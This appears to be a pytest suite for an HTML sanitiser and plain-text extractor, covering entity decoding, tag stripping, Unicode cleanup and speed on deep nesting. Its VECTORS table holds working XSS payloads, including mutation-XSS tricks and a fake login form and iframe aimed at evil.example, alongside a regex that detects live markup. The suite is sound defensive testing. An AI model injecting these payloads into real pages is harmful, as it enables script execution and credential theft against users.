"""Foreign text made one clean line, or HTML in which nothing runs."""

from __future__ import annotations

import re
import time

import pytest

from extractors.safe import is_markup, plain, sanitise

LINES = {
    "text stays": ("Rain & sun", "Rain & sun"),
    "entities are resolved": ("Rain &amp; sun &#8212; &eacute;", "Rain & sun — é"),
    "even those escaped twice": ("Rain &amp;amp; sun", "Rain & sun"),
    "tags go": ("A <b>bold</b> <a href='x'>move</a>", "A bold move"),
    "tags escaped once go": ("A &lt;b&gt;bold&lt;/b&gt; move", "A bold move"),
    "blocks leave a blank": ("<p>One</p><p>Two</p>three<br>four", "One Two three four"),
    "a script goes with what it says": ("T<script type=x>alert(1)</script>", "T"),
    "a style as well": ("T<STYLE>a{}</STYLE >", "T"),
    "an element of which one writes is a word": ("The <details> element", "The details element"),
    "a type parameter is text": ("Map<Key, Value> and Vec<T>", "Map and Vec<T>"),
    "a comparison is text": ("1 < 2 > 0", "1 < 2 > 0"),
    "an unknown element with attributes goes": ("<x onclick=alert(1)>T</x>", "T"),
    "an image goes": ("<img src=x onerror=alert(1)>T", "T"),
    "comments go": ("A<!-- x --><![CDATA[B]]>", "AB"),
    "blanks are one": (" a\u00a0\u2003b\r\n\tc\u2028d ", "a b c d"),
    "overrides of direction go": ("a\u202eb\u2066c\u200fd", "abcd"),
    "hidden letters go": ("a\u200b\u00ad\ufeffb\U000e0041", "ab"),
    "joiners stay": ("👩\u200d🚀 x\u200cy", "👩\u200d🚀 x\u200cy"),
    "terminal codes go": ("a\x1b[1;31mb\x07c\x9bd", "ab c d"),
    "lone surrogates go": ("a\ud800b", "ab"),
    "bad references are U+FFFD": ("&#xD800;&#x110000;", "\ufffd\ufffd"),
}


@pytest.mark.parametrize(("raw", "line"), LINES.values(), ids=LINES)
def test_plain(raw: str, line: str) -> None:
    assert plain(raw) == line


def test_a_long_line_is_cut_at_a_word() -> None:
    cut = plain("word " * 1000)
    assert len(cut) <= 500
    assert cut.endswith("word…")
    assert len(plain("x" * 1000, 20)) == 20


HOSTILE = ["<", "<script>", "<!--", "&", "&lt;", "<a ", "</", "<a b='", "<b>", "<style>x", "&amp;" * 3]


@pytest.mark.parametrize("piece", HOSTILE)
def test_no_line_takes_long(piece: str) -> None:
    began = time.perf_counter()
    assert len(plain(piece * 200_000)) <= 500
    assert time.perf_counter() - began < 1


VECTORS = {
    "script": "<script>alert(1)</script>",
    "nested script": "<scr<script>ipt>alert(1)</script>",
    "image error": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link, dressed up": "<a href=' JaVa\tScRiPt&#58;alert(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "frame": "<iframe src='https://evil.example/'></iframe>",
    "frame text": "<iframe srcdoc='<script>alert(1)</script>'>",
    "object": "<object data='x.swf'></object><embed src=x>",
    "form": "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "style": "<style>*{background:url(javascript:alert(1))}</style><p style='x:expression(alert(1))'>x</p>",
    "base": "<base href='javascript:alert(1)//'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by table": "<table><td><math><mtext><style><img src=x onerror=alert(1)></style>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "file image": "<img src='file:///etc/passwd'>",
}
LIVE = re.compile(
    r"<(?:script|iframe|object|embed|form|input|button|svg|math|style|meta|base|link|template)|\son\w+=|style="
    r"|(?:href|src)=\"(?!https?:|mailto:)", re.IGNORECASE,
)  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS)
def test_nothing_runs_and_the_text_around_stays(vector: str) -> None:
    clean = sanitise(f"<p>before</p>{vector}", "https://news.example/a")
    assert clean.startswith("<p>before</p>")
    assert not LIVE.search(clean), clean
    assert sanitise(clean, "https://news.example/a") == clean


STUBBORN = {  # what one pass leaves in a form that the next would change
    "a list in a table in a list": "<li><table><li>x",
    "a link in a table in a link": "<h3><a href=x><h3></p><table><a href=x>y<a href=x>z",
    "a link around a division": "<div><a href=x><div><figure><a href=y>x</a></figure></div>",
    "blank lines at the start of code": "<pre>\n\n\nx</pre>",
    "a byte-order mark behind an empty tag": "<x></x>\ufeff\ufeff<b>x</b>",
}


@pytest.mark.parametrize("source", STUBBORN.values(), ids=STUBBORN)
def test_what_was_sanitised_stays_as_it_is(source: str) -> None:
    clean = sanitise(source, "https://news.example/a")
    assert "x" in clean
    assert sanitise(clean, "https://news.example/a") == clean


def test_escaped_markup_stays_text() -> None:
    assert sanitise("<p>&lt;script&gt;</p>") == "<p>&lt;script&gt;</p>"


def test_links_and_images_are_made_absolute() -> None:
    clean = sanitise("<a href='/x'>a</a><img src='y.png' alt='b'>", "https://news.example/a/b")
    assert 'href="https://news.example/x"' in clean
    assert 'src="https://news.example/a/y.png"' in clean


DEEP = {
    "one element": "<div>" * 50_000,
    "elements in turn": "<b><i>" * 50_000,
    "end tags that end nothing": "<div></b>" * 50_000,
    "tables": "<table><tr><td>" * 20_000,
    "lists": "<ul><li>" * 30_000,
}


@pytest.mark.parametrize("source", DEEP.values(), ids=DEEP)
def test_depth_costs_no_time(source: str) -> None:
    began = time.perf_counter()
    assert "deep" in sanitise(f"{source}deep")
    assert time.perf_counter() - began < 2


MARKUP = {"<p>x": True, "x<br/>y": True, "<b>x</b>": True, "a < b": False, "Vec<T>": False, "x</T>": False, "": False}


@pytest.mark.parametrize(("text", "markup"), MARKUP.items())
def test_is_markup(text: str, markup: bool) -> None:
    assert is_markup(text) is markup
